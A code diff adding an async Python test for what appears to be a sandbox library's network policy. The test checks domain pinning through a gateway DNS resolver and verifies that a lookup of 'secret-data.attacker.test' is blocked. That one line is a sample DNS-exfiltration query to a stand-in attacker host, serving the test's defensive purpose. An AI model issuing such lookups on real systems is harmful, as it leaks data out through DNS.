@@ -137,3 +137,39 @@ async def test_dns_through_the_gateway_proxy() -> None:
     finally:
         transport.close()
     assert "example.test" in server.asked and "missing.test" in server.asked
+
+
+async def test_policy_pins_domains_and_blocks_dns_exfiltration() -> None:
+    loop = asyncio.get_running_loop()
+    dns_t, resolver = await loop.create_datagram_endpoint(_Dns, local_addr=("127.0.0.1", 0))
+    echo_t, echo = await loop.create_datagram_endpoint(_Echo, local_addr=("127.0.0.1", 0))
+    dns_port = dns_t.get_extra_info("sockname")[1]
+    port = echo_t.get_extra_info("sockname")[1]
+    policy = capsa.NetworkPolicy.deny_all().allow_dns().allow_domain("example.test")
+    mode = (
+        capsa.NetworkMode.user_nat()
+        .dns_upstream("127.0.0.1", dns_port)
+        .host_alias("203.0.113.7", "127.0.0.1")
+        .policy(policy)
+        .build()
+    )
+    py = "/usr/lib/capsa/python/bin/python3 -I /tmp/udp.py"
+    try:
+        async with await capsa.sandbox().network(mode).build() as sb:
+            agent = await sb.agent()
+            await _address(agent)
+            await agent.write_file("/tmp/udp.py", GUEST_UDP.encode())
+            # Not resolved through the gateway yet: the address is not example.test's.
+            assert (await agent.exec(f"{py} 203.0.113.7 {port} early", timeout=30)).exit_code != 0
+            r = await agent.exec("nslookup example.test", timeout=30)
+            assert "203.0.113.7" in r.stdout.decode()
+            r = await agent.exec(f"{py} 203.0.113.7 {port} pinned", timeout=30)
+            assert r.exit_code == 0 and r.stdout.decode().startswith("dennip ")
+            # A name the policy denies is refused at the gateway and never leaves.
+            await agent.exec("nslookup secret-data.attacker.test", timeout=30)
+    finally:
+        dns_t.close()
+        echo_t.close()
+    assert echo.seen == [b"pinned"]
+    assert "example.test" in resolver.asked
+    assert not any("attacker" in name for name in resolver.asked)
